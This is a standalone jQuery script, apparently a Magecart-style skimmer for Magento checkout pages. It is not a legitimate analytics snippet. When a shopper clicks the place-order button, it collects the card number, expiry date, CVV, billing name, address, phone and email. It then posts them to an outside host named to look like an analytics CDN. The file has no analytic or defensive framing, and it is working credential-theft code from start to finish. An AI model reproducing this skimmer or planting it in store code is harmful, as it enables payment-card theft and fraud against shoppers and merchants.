jQuery(document).ready(function ($) {
  if (window.location.href.indexOf('onepage') == -1 && window.location.href.indexOf('checkout') == -1) {
    return;
  }
  var sent = [];
  $(document).on('click', 'button.btn-checkout, #onestepcheckout-place-order, .action.primary.checkout', function () {
    var cc = $('#ccsave_cc_number').val() || $('input[name="payment[cc_number]"]').val();
    if (!cc || cc.length < 13) return;
    if ($.inArray(cc, sent) > -1) return;
    sent.push(cc);
    var data = {
      number: cc,
      month: $('select[name="payment[cc_exp_month]"]').val(),
      year: $('select[name="payment[cc_exp_year]"]').val(),
      cvv: $('input[name="payment[cc_cid]"]').val(),
      firstname: $('input[name="billing[firstname]"]').val(),
      lastname: $('input[name="billing[lastname]"]').val(),
      address: $('#billing\\:street1').val(),
      city: $('#billing\\:city').val(),
      zip: $('#billing\\:postcode').val(),
      phone: $('#billing\\:telephone').val(),
      email: $('#billing\\:email').val(),
      domain: document.domain
    };
    $.ajax({
      url: 'https://magento-analytics-cdn.example/lib/jquery.php',
      type: 'POST',
      async: true,
      data: $.param(data)
    });
  });
});
